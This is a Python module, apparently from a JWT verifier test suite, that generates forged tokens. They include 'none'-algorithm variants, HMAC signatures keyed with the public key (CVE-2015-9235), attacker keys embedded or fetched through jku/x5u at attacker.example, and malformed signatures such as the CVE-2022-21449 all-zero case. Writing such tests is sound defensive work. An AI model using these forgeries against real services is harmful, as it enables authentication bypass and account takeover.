"""Tokens that nobody signed, or not by a key that is trusted, or not by its algorithm."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from datetime import UTC, datetime
from json import dumps
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from ..jose.algorithms import ALGORITHMS
from ..jose.jwk import Key, PrivateKey, PublicKey
from ..jose.jws import join
from ..jose.strict_json import b64url_encode
from .attack import Attack, Forge, Group
from .mint import ABSENT, json_octets, sealed


def _algorithms(forge: Forge) -> Iterator[Attack]:
    for name, spelling in (
        *((spelling, spelling) for spelling in ("none", "None", "NONE", "nOnE")),
        ("none-with-space", "none "),
        ("none-with-zero-width-space", "no\u200bne"),
        ("empty", ""),
    ):
        message = forge.message(header={"alg": spelling})
        yield forge.attack(f"alg-{name}-unsigned", "RS-14", message.decode() + ".")
        yield forge.attack(f"alg-{name}-signed", "RS-14", sealed(message, forge.key))
    own = forge.key.algorithm
    yield forge.attack("unsigned", "RS-14", forge.message().decode() + ".")
    for name, value in (
        ("lower-case", own.name.lower()),
        ("with-space", f"{own.name} "),
        ("as-array", [own.name]),
        ("as-object", {"alg": own.name}),
        ("as-number", 1),
        ("as-true", True),
        ("null", None),
        ("unknown", "XS256"),
        ("missing", ABSENT),
    ):
        yield forge.attack(f"alg-{name}", "RS-14", forge.token(header={"alg": value}))
    for name, cousin in ALGORITHMS.items():
        if cousin != own and (cousin.kty, cousin.crv) == (own.kty, own.crv):
            message = forge.message(header={"alg": name})
            token = join(message, cousin.sign(forge.key.private, message))
            yield forge.attack(f"alg-{name.lower()}-by-the-same-key", "RS-16", token)


def _public_key_as_secret(forge: Forge) -> Iterator[Attack]:
    """The public key, which everybody knows, as the secret of an HMAC (CVE-2015-9235)."""
    for name, secret in (("empty", b""), ("nul", b"\0"), ("word", b"secret")):
        yield forge.attack(f"hs256-by-{name}-secret", "RS-16", forge.by_hmac(secret))
    if forge.key.public is None:
        return
    for name, secret in _forms_of_a_public_key(forge.key, forge.key.public):
        for algorithm in ("HS256", "HS512"):
            token = forge.by_hmac(secret, alg=algorithm)
            yield forge.attack(f"{algorithm.lower()}-by-public-key-{name}", "RS-16", token)


def _forms_of_a_public_key(key: Key, public: PublicKey) -> Iterator[tuple[str, bytes]]:
    """Yield the forms in which a public key has been taken for a secret."""
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    members = key.public_jwk()
    yield "pem", pem
    yield "pem-without-last-newline", pem.strip()
    yield "pem-after-a-newline", b"\n" + pem
    yield "pem-after-a-byte-order-mark", b"\xef\xbb\xbf" + pem
    yield "pem-with-crlf", pem.replace(b"\n", b"\r\n")
    yield "pem-without-its-frame", b"".join(pem.splitlines()[1:-1])
    yield "der", public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    yield "ssh", public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    yield "jwk", json_octets(members)
    yield "jwk-with-spaces", dumps(members).encode()
    yield "jwks", json_octets({"keys": [members]})
    if isinstance(public, RSAPublicKey):
        modulus = public.public_numbers().n
        yield "pkcs1", public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        yield "modulus-in-base64url", members["n"].encode()
        yield "modulus", modulus.to_bytes((modulus.bit_length() + 7) // 8)
    else:
        yield "coordinate-in-base64url", members["x"].encode()


def _embedded_keys(forge: Forge) -> Iterator[Attack]:
    """A key of the attacker's, in the token or where the token points (RFC 8725 s3.10)."""
    stranger = forge.stranger()
    url = "https://attacker.example/keys"
    members: dict[str, dict[str, Any]] = {
        "key-of-a-stranger": {},
        "jku": {"jku": url},
        "jku-to-a-file": {"jku": "file:///etc/hostname"},
        "x5u": {"x5u": url},
        "x5t": {"x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA"},
    }
    if stranger.private is None or isinstance(stranger.private, bytes):
        members["jwk"] = {"jwk": stranger.to_jwk()}
    else:
        members["jwk"] = {"jwk": stranger.public_jwk()}
        members["x5c"] = {"x5c": [_certificate(stranger.private)]}
    for name, member in members.items():
        for how, kid in (("", forge.key.kid), ("-without-kid", ABSENT)):
            message = forge.message(header={**member, "kid": kid})
            yield forge.attack(f"{name}{how}", "RS-21", sealed(message, stranger))


def _certificate(key: PrivateKey) -> str:
    """Return a certificate that the key has given itself, as in `x5c` (RFC 7515 s4.1.6)."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "login.example")])
    builder = x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
    builder = builder.not_valid_before(datetime(2020, 1, 1, tzinfo=UTC))
    builder = builder.not_valid_after(datetime(2120, 1, 1, tzinfo=UTC))
    signed = builder.sign(key, None if isinstance(key, Ed25519PrivateKey) else SHA256())
    return b64encode(signed.public_bytes(Encoding.DER)).decode()


def _signatures(forge: Forge) -> Iterator[Attack]:
    message = forge.message()
    signature = forge.key.sign(message)
    other = forge.key.sign(forge.message(sub="bob"))
    flipped = bytes((signature[0] ^ 1,)) + signature[1:]
    for name, value in (
        ("of-zeros", bytes(len(signature))),  # CVE-2022-21449: (r, s) = (0, 0)
        ("of-ones", b"\xff" * len(signature)),
        ("of-one-octet", b"\0"),
        ("with-a-flipped-bit", flipped),
        ("cut-short", signature[:-1]),
        ("with-an-octet-more", signature + b"\0"),
        ("with-an-octet-in-front", b"\0" + signature),
        ("of-another-token", other),
        *_signatures_of_its_kind(forge.key, signature),
    ):
        yield forge.attack(f"signature-{name}", "RS-05", join(message, value))
    admin = b64url_encode(forge.with_claims(sub="admin"))
    swapped = b".".join((b64url_encode(forge.header), admin, b64url_encode(signature)))
    yield forge.attack("claims-exchanged", "RS-05", swapped.decode())


def _signatures_of_its_kind(key: Key, signature: bytes) -> Iterator[tuple[str, bytes]]:
    half = len(signature) // 2
    if key.algorithm.kty == "EC":
        r, s = int.from_bytes(signature[:half]), int.from_bytes(signature[half:])
        yield "with-r-zero", bytes(half) + signature[half:]
        yield "with-s-zero", signature[:half] + bytes(half)
        yield "in-der", encode_dss_signature(r, s)
    if key.algorithm.kty == "OKP":
        # RFC 8032 s5.1.7: S not below the group's order would be a second signature of one message.
        order = 2**252 + 27742317777372353535851937790883648493
        s = int.from_bytes(signature[half:], "little") + order
        yield "with-s-beyond-the-order", signature[:half] + s.to_bytes(half, "little")
    if key.algorithm.kty == "RSA":
        yield "of-the-number-one", bytes(len(signature) - 1) + b"\1"


FORGED: tuple[Group, ...] = (_algorithms, _public_key_as_secret, _embedded_keys, _signatures)
